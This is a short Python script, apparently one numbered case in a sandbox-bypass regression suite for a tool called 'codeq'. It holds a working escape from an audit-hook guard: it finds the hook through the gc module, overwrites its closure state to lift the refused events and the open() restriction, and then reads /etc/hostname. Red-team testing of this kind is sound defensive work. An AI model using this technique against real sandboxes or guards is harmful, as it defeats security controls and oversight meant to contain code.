# The guard's audit hook keeps its state in closure cells: with a dunder read (113's) and the
# real gc module, the hook is found among gc.get_objects() and its refused events and open()
# rule overwritten, after which exec of a string and any open() pass the guard. Found by a
# red-team review.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "114_guard_state_through_gc"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools
import json


def get(obj, name):
    cp = functools.cached_property(len)
    cp.attrname = name
    return cp.__get__(type(obj)).__get__(obj)


def cell(fn, name):
    return get(fn, "__closure__")[get(get(fn, "__code__"), "co_freevars").index(name)]


real = get(json.dumps, "__globals__")["__builtins__"]
gc = real["__import__"]("gc")
gc.unfreeze()
hook = [o for o in gc.get_objects() if type(o) is type(json.dumps)
        and get(get(o, "__code__"), "co_name") == "audit"][0]
cell(hook, "refused_events").cell_contents = frozenset()
cell(hook, "open_allowed").cell_contents = lambda *a: True
won(real["open"]("/etc/hostname").read())
